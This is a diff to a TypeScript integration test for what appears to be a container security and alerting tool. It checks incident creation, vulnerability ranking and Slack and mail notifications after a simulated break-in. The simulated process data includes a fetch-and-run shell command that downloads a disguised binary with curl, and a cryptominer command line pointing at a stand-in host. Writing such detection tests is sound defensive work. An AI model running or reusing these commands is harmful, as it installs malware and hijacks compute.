@@ -13,7 +13,7 @@ import {
   type TestRegistry,
 } from '@tidewaiter/testkit';
 
-import { debian12, dpkgStatus } from './fixtures.js';
+import { debian12, dpkgStatus, writeAdvisories } from './fixtures.js';
 import {
   makeHome,
   quiet,
@@ -90,6 +90,11 @@ receivers:
 `,
   });
   tidewaiter = await startTidewaiter(home, ingestPort);
+  const holes = [
+    { id: 'CVE-2026-3001', package: 'dash', fixed: '0.5.12-3', severity: 'CRITICAL' as const },
+    { id: 'CVE-2026-3002', package: 'curl', fixed: '8.5.0-2', severity: 'LOW' as const },
+  ];
+  await tidewaiter.command('advisories', 'import', writeAdvisories(temporaryFolder(), holes));
   digest = await push('shop/payment:1.4');
 }, 240_000);
 
@@ -106,6 +111,7 @@ async function push(name: string): Promise<string> {
   await buildImage(dir, {
     layers: [
       [debian12, dpkgStatus({ dash: '0.5.12-2', curl: '8.5.0-1' })],
+      [{ path: 'var/lib/dpkg/info/curl.list', content: '/.\n/usr\n/usr/bin\n/usr/bin/curl\n' }],
       [program('usr/bin/dash'), program('bin/sh'), program('usr/bin/curl')],
       [program('app/server')],
     ],
@@ -244,10 +250,19 @@ function podExec(): object {
     stage: 'ResponseComplete',
     requestURI: '/api/v1/namespaces/shop/pods/payment-7d4c9f6b5-x2x9k/exec?command=sh&stdin=true&tty=true',
     verb: 'create',
-    user: { username: 'system:serviceaccount:shop:default', groups: ['system:serviceaccounts', 'system:authenticated'] },
+    user: {
+      username: 'system:serviceaccount:shop:default',
+      groups: ['system:serviceaccounts', 'system:authenticated'],
+    },
     sourceIPs: ['203.0.113.9'],
     userAgent: 'kubectl/v1.33.0',
-    objectRef: { resource: 'pods', namespace: 'shop', name: 'payment-7d4c9f6b5-x2x9k', apiVersion: 'v1', subresource: 'exec' },
+    objectRef: {
+      resource: 'pods',
+      namespace: 'shop',
+      name: 'payment-7d4c9f6b5-x2x9k',
+      apiVersion: 'v1',
+      subresource: 'exec',
+    },
     responseStatus: { metadata: {}, code: 101 },
     requestReceivedTimestamp: time,
     stageTimestamp: time,
@@ -274,10 +289,20 @@ describe('a container that somebody breaks into', () => {
 
   it('opens one incident with what is known of the image, and one message', async () => {
     const server = processOf('/app/server', '');
-    const shell = processOf('/bin/sh', '-c "curl -s http://203.0.113.77/x -o /tmp/.x/kthreadd; /tmp/.x/kthreadd"', server);
+    const shell = processOf(
+      '/bin/sh',
+      '-c "curl -s http://203.0.113.77/x -o /tmp/.x/kthreadd; /tmp/.x/kthreadd"',
+      server,
+    );
     const curl = processOf('/usr/bin/curl', '-s http://203.0.113.77/x -o /tmp/.x/kthreadd', shell);
     const miner = processOf('/tmp/.x/kthreadd', '-o stratum+tcp://203.0.113.77:3333 -u wallet', shell);
-    await report('nodes', exec(shell, server), exec(curl, shell), connect(curl, '203.0.113.77', 80), exec(miner, shell));
+    await report(
+      'nodes',
+      exec(shell, server),
+      exec(curl, shell),
+      connect(curl, '203.0.113.77', 80),
+      exec(miner, shell),
+    );
     await until('an incident is open', async () => (await incidents()).length > 0);
     await until('Slack has the message', () => messages().length > 0);
     const [incident, ...others] = await incidents();
@@ -322,16 +347,31 @@ describe('a container that somebody breaks into', () => {
     expect(alerts.items.length).toBeGreaterThan(0);
   });
 
+  it('puts first what was in use, however mild it is', async () => {
+    let findings: { kind: string; id: string; running: boolean | null; inUse: boolean | null }[] = [];
+    await until('curl is known to be in use', async () => {
+      findings = (await tidewaiter.api<{ items: typeof findings }>(`/images/${digest}/findings`)).items;
+      return findings[0]?.inUse === true;
+    });
+    expect(findings.filter(({ kind }) => kind === 'vulnerability')).toMatchObject([
+      { id: 'CVE-2026-3002', running: true, inUse: true },
+      { id: 'CVE-2026-3001', running: true },
+    ]);
+  });
+
   it('ends with one note when somebody resolves it', async () => {
-    const thread = slack.thread(channel, messages()[0]!.ts).length;
+    const notes = () => slack.thread(channel, messages()[0]!.ts).map(({ text }) => text.split(': ').at(-1));
     await tidewaiter.api(`/incidents/${id}/resolve`, { method: 'POST' });
     await until('the message says so', () => messages()[0]!.text.startsWith('Resolved'));
-    await until('the thread has its note', () => slack.thread(channel, messages()[0]!.ts).length > thread);
+    await until('the thread has its note', () => notes().includes('Resolved by bootstrap'));
     await quiet();
-    const notes = slack.thread(channel, messages()[0]!.ts).slice(thread);
-    expect(notes.map(({ text }) => text.split(': ').at(-1))).toEqual(['Resolved by bootstrap']);
+    expect(notes().filter((text) => text?.startsWith('Resolved'))).toEqual(['Resolved by bootstrap']);
+    expect(notes().at(-1)).toBe('Resolved by bootstrap');
     expect(messages()).toHaveLength(1);
-    const mails = mail.received.map(({ mail: { subject, references } }) => ({ subject, references: [references].flat() }));
+    const mails = mail.received.map(({ mail: { subject, references } }) => ({
+      subject,
+      references: [references].flat(),
+    }));
     expect(mails.at(-1)).toMatchObject({ subject: expect.stringMatching(/^Re: /) });
     expect(new Set(mails.map(({ references }) => references[0])).size).toBe(1);
   });
